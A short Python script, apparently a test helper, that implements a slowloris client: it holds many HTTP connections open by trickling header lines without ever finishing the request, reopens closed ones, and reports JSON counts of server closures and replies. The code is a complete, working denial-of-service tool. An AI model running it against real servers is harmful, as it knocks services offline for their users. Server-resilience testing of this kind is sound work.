#!/usr/bin/python3
"""A slowloris client: many HTTP connections that never finish their request.

    slowloris.py HOST PORT N SECONDS [INTERVAL]
        keep N connections open to HOST:PORT for SECONDS; each sends the start of a request
        head and then one more header line every INTERVAL seconds (default 0.2), never the
        blank line that ends it.  A connection the server closes is opened again at once.
        Prints "ready" once N are open, and at the end one JSON line
        {"opened": n, "closed_by_server": n, "answered": n, "seconds": s}
        (answered: connections that got any bytes back, e.g. a 408 or 413).

What it must not do: send anything but to HOST:PORT, or change the namespace it runs in.
"""
import json
import selectors
import socket
import sys
import time

HEAD = b"GET /healthz HTTP/1.1\r\nHost: slow\r\n"


def main():
    host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), \
        float(sys.argv[4])
    interval = float(sys.argv[5]) if len(sys.argv) > 5 else 0.2
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    sel = selectors.DefaultSelector()
    stats = {"opened": 0, "closed_by_server": 0, "answered": 0}
    conns = {}

    def open_one():
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect((host, port))
        s.sendall(HEAD)
        s.setblocking(False)
        sel.register(s, selectors.EVENT_READ)
        conns[s] = 0
        stats["opened"] += 1

    for _ in range(n):
        open_one()
    print("ready", flush=True)
    end = time.monotonic() + seconds
    next_tick = time.monotonic() + interval
    while time.monotonic() < end:
        for key, _ in sel.select(timeout=max(0.0, next_tick - time.monotonic())):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if data:
                stats["answered"] += 1
            sel.unregister(s)
            del conns[s]
            s.close()
            stats["closed_by_server"] += 1
            open_one()
        if time.monotonic() >= next_tick:
            next_tick += interval
            for s in list(conns):
                conns[s] += 1
                try:
                    s.send(b"X-Slow-%d: x\r\n" % conns[s])
                except OSError:
                    pass  # seen as closed on the next select
    stats["seconds"] = seconds
    print(json.dumps(stats), flush=True)
    for s in conns:
        s.close()


if __name__ == "__main__":
    main()
